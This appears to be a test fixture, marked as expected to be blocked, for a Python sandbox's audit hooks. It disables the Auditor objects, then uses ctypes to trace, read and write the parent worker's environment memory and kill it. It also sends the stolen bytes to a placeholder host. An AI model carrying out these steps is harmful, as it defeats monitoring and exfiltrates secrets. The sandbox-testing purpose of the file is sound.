# expect: blocked -- switches the audit hook off, then traces, reads the memory of and kills the worker through the C library
import ctypes, errno, gc, os
for auditor in [o for o in gc.get_objects() if type(o).__name__ == "Auditor"]:
    auditor.armed = False
libc = ctypes.CDLL(None, use_errno=True)
worker = os.getppid()


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(4096)
here, there = IoVec(ctypes.addressof(buffer), 4096), IoVec(id(os.environ), 4096)  # a fork: the same addresses
attempts = {"ptrace": (16, worker, None, None), "process_vm_readv": (worker, ctypes.byref(here), 1, ctypes.byref(there), 1, 0),
            "process_vm_writev": (worker, ctypes.byref(here), 1, ctypes.byref(there), 1, 0),
            "tgkill": (worker, worker, 9), "kill": (worker, 9), "prlimit": (worker, 0, None, None)}
results = {}
for name, args in attempts.items():
    results[name] = (getattr(libc, name)(*args), ctypes.get_errno())
if all(result == -1 and code == errno.ENOTRECOVERABLE for result, code in results.values()):
    raise OSError(errno.ENOTRECOVERABLE, "every call refused")
urlopen("https://api.example.com/items?traced=" + ",".join(f"{n}:{r}:{c}" for n, (r, c) in results.items()) + buffer.raw[:64].hex())
